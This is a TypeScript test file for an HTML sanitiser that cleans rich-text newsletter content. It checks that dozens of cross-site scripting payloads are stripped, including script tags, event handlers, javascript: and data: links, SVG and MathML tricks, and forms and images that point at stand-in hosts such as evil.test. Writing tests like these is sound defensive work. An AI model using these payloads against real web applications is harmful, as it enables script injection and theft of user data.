import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { layout } from './layout.ts'
import { dressed, richFrom } from './rich.ts'

/** All that may be left of anything: these tags, in this spelling, and escaped text. */
const link = '<a href="(?:https?|mailto|tel):[^"<>]*" rel="noopener noreferrer" target="_blank">'
const allowed = new RegExp(
  `^(?:${link}|</a>|</?(?:p|strong|em|h2|h3|ul|ol|li)>|<br />|[^<>]+)*$`,
  'u',
)
const html = (given: string) => richFrom(given).html

/** What is sent, and what is left of it. */
const attacks: [name: string, given: string, left: string][] = [
  ['a script', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
  ['a script in capitals, unclosed', 'Hi<SCRIPT SRC=//evil.test/x.js>', 'Hi'],
  ['a script in a script', '<scr<script>x</script>ipt>alert(1)</script>', 'xipt&gt;alert(1)'],
  ['a script behind a null', 'a<\0script>alert(1)</script>b', 'a&lt;script&gt;alert(1)b'],
  ['an event handler', '<p onclick="alert(1)" onmouseover=alert(2)>Hi</p>', '<p>Hi</p>'],
  [
    'a handler on a link',
    '<a href="https://a.test/" onfocus=x autofocus>a</a>',
    left('https://a.test/', 'a'),
  ],
  ['a handler after a slash', '<p/onclick=alert(1)>Hi</p>', '<p>Hi</p>'],
  ['a remote picture', '<p>Hi<img src="https://evil.test/open.gif" width=1></p>', '<p>Hi</p>'],
  ['a picture with a handler', '<img src=x onerror=alert(1)>', ''],
  [
    'a picture by srcset',
    '<picture><source srcset="https://evil.test/a"><img srcset="//e.test/b"></picture>',
    '',
  ],
  [
    'a background',
    '<table background="https://evil.test/t.gif"><tr><td>Hi</td></tr></table>',
    'Hi',
  ],
  [
    'sound and film',
    '<video poster="//e.test/p"><source src=//e.test/v></video><audio src=x></audio>',
    '',
  ],
  ['a javascript link', '<a href="javascript:alert(1)">a</a>', 'a'],
  ['one with a tab in it', '<a href="java\tscript:alert(1)">a</a>', 'a'],
  ['one with entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', 'a'],
  ['one with a hidden character', '<a href="java\u200bscript:alert(1)">a</a>', 'a'],
  ['one with control characters', '<a href="\x01javascript:alert(1)">a</a>', 'a'],
  ['vbscript', '<a href="vbscript:msgbox(1)">a</a>', 'a'],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>', 'a'],
  ['a blob link', '<a href="blob:https://a.test/1">a</a>', 'a'],
  ['a file link', '<a href="file:///etc/passwd">a</a>', 'a'],
  [
    'a link to nowhere in particular',
    '<a href="/login">a</a><a href="//evil.test">b</a><a>c</a>',
    'abc',
  ],
  ['a link with a name before the host', '<a href="https://kra.go.ke@evil.test/">a</a>', 'a'],
  [
    'a link that leaves its quotes',
    '<a href=\'https://a.test/"onclick="x\'>a</a>',
    left('https://a.test/%22onclick=%22x', 'a'),
  ],
  [
    'a link that pings',
    '<a href="https://a.test/" ping="//e.test" download style="position:fixed">a</a>',
    left('https://a.test/', 'a'),
  ],
  [
    'letters of another alphabet in a host',
    '<a href="https://ра.test/">a</a>',
    left('https://xn--80a5a.test/', 'a'),
  ],
  ['style attributes', '<p style="background:url(https://e.test/x)">Hi</p>', '<p>Hi</p>'],
  ['a style sheet', '<style>@import "//e.test"; p{display:none}</style><p>Hi</p>', '<p>Hi</p>'],
  [
    'a linked style sheet',
    '<link rel=stylesheet href=//e.test><p class=x id=y>Hi</p>',
    '<p>Hi</p>',
  ],
  ['expressions', '<p style="width:expression(alert(1));behavior:url(#x)">Hi</p>', '<p>Hi</p>'],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:x"><text>Hi</text></a></svg>Hi', 'Hi'],
  [
    'svg with a style that ends elsewhere',
    '<svg><style><img src=x onerror=alert(1)></style></svg>Hi',
    'Hi',
  ],
  ['math', '<math><mtext><table><mglyph><style><img src onerror=x></style></math>Hi', 'Hi'],
  ['a comment', '<!-- secret --><p>Hi</p>', '<p>Hi</p>'],
  [
    'a conditional comment',
    '<!--[if mso]><p>Outlook</p><script>x</script><![endif]--><p>Hi</p>',
    '<p>Hi</p>',
  ],
  ['one that is revealed', '<![if !mso]><p>Hi</p><![endif]>', '<p>Hi</p>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->', '--&gt;'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>Hi', 'Hi'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:x"?>Hi', 'Hi'],
  [
    'a form',
    '<form action="https://evil.test"><input name=p value=x><button>Go</button></form>',
    'Go',
  ],
  ['fields', '<textarea><script>x</script></textarea><select><option>a</option></select>', ''],
  ['an iframe', '<iframe src="https://evil.test">old</iframe><p>Hi</p>', '<p>Hi</p>'],
  ['an iframe with a page in it', '<iframe srcdoc="<script>x</script>"></iframe>Hi', 'Hi'],
  ['objects', '<object data=x><p>a</p></object><embed src=x><applet code=x>b</applet>', 'b'],
  ['a meta refresh', '<meta http-equiv=refresh content="0;url=//evil.test"><p>Hi</p>', '<p>Hi</p>'],
  ['another base', '<base href="https://evil.test/"><p>Hi</p>', '<p>Hi</p>'],
  [
    'a whole page',
    '<html><head><title>T</title></head><body bgcolor=red><p>Hi</p></body></html>',
    '<p>Hi</p>',
  ],
  ['a way out of the layout', '</td></tr></table></body><p>Hi</p>', '<p>Hi</p>'],
  [
    'tags that cross',
    '<p><strong>a<em>b</strong>c</em></p>',
    '<p><strong>a<em>b</em></strong>c</p>',
  ],
  ['tags left open', '<ul><li>a<li><strong>b', '<ul><li>a</li><li><strong>b</strong></li></ul>'],
  ['an attribute left open', '<p>Hi</p><a href="https://a.test', '<p>Hi</p>'],
  ['a template', '<template><script>x</script></template>Hi', 'Hi'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['text that turns round', '<p>\u202egpj.exe\u2066</p>', '<p>gpj.exe</p>'],
  ['the same as entities', '<p>&#8238;gpj&#x200b;.exe</p>', '<p>gpj.exe</p>'],
  ['invisible tags', '<p>a\u{e0041}\u{e0042}b</p>', '<p>ab</p>'],
  ['brackets of another width', '<p>\uff1cscript\uff1e</p>', '<p>\uff1cscript\uff1e</p>'],
  [
    'escaped tags stay escaped',
    '<p>&lt;script&gt;x&lt;/script&gt;</p>',
    '<p>&lt;script&gt;x&lt;/script&gt;</p>',
  ],
  [
    'other headings and weights',
    '<h1>a</h1><h6>b</h6><b>c</b><i>d</i>',
    '<h2>a</h2><h3>b</h3><strong>c</strong><em>d</em>',
  ],
]
function left(href: string, words: string) {
  return `<a href="${href}" rel="noopener noreferrer" target="_blank">${words}</a>`
}

const words = (given: string) => given.replace(/<[^>]*>/g, '')

function leftOpen(given: string): string[] {
  const open: string[] = []
  for (const [, close, tag = ''] of given.matchAll(/<(\/?)(\w+)[^>]*>/g)) {
    if (tag === 'br') continue
    if (!close) open.push(tag)
    else if (open.pop() !== tag) return [`</${tag}>`]
  }
  return open
}

describe('attacks', () => {
  test.each(attacks)('%s', (_name, given, expected) => {
    expect(html(given)).toBe(expected)
    expect(html(given)).toMatch(allowed)
  })

  test('deep nesting and much of it end soon', () => {
    const begun = performance.now()
    for (const piece of [
      '<p>',
      '<ul><li>',
      '<a href="https://a.test">',
      '<svg>',
      '<!--',
      '<<',
      '&',
      '<p a=',
    ]) {
      const given = piece.repeat(60_000 / piece.length)
      expect(html(given)).not.toMatch(/<(svg|!)/)
    }
    expect(html(`${'<strong>'.repeat(500)}x`).match(/<strong>/g)?.length).toBeLessThan(13)
    expect(performance.now() - begun).toBeLessThan(20_000)
  })

  test('whatever is put together, only the list is left, and every tag is closed', () => {
    const pieces = fc.constantFrom(
      ...attacks.map(([, given]) => given),
      ...attacks.flatMap(([, given]) => given.split(/(?=[<>"'/= ])/)),
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 12 }), (parts) => {
        const once = html(parts.join(''))
        expect(once).toMatch(allowed)
        expect(leftOpen(once)).toEqual([])
        expect(words(html(once))).toBe(words(once))
      }),
      { numRuns: 200 },
    )
  })
})

const letter = `<h2>New in March</h2><p>Dear clients, <strong>NSSF</strong> &amp; SHIF:</p>
<ul><li><p>limits</p></li><li><p>rates</p><ol><li><p>one</p></li><li><p>two</p></li></ol></li></ul>
<p>See <a href="https://mshahara.test/news?a=1&amp;b=2">our page</a><br>or <a href="mailto:help@mshahara.test">help@mshahara.test</a></p>`

test('whoever reads plain text reads the same', () => {
  expect(richFrom(letter).text).toBe(`New in March

Dear clients, NSSF & SHIF:

- limits
- rates
  1. one
  2. two

See our page (https://mshahara.test/news?a=1&b=2)
or help@mshahara.test`)
})

test('tags, spaces and characters that nobody sees are no words', () => {
  for (const given of ['<p> </p><p><br></p>', '<ul><li></li></ul>', '<p>&nbsp;\u200d&#8203;</p>']) {
    expect(richFrom(given).text).toBe('')
  }
  expect(richFrom('<p>🎉</p>').text).toBe('🎉')
})

test('in the layout every tag has its look, and the way to unsubscribe comes last', () => {
  const rich = richFrom(letter)
  const laid = layout(
    { to: 'a@b.test', subject: 'x', paragraphs: [], rich, unsubscribe: '/unsubscribe/t' },
    'https://mshahara.test',
  )
  expect(dressed(rich.html)).not.toMatch(/<(p|h2|ul|li|a)( href[^>]*)?>/)
  expect(laid.html).toContain('<a href="https://mshahara.test/unsubscribe/t"')
  expect(laid.text).toContain('Unsubscribe: https://mshahara.test/unsubscribe/t')
  expect(laid.text.indexOf('New in March')).toBeLessThan(laid.text.indexOf('Unsubscribe'))
})
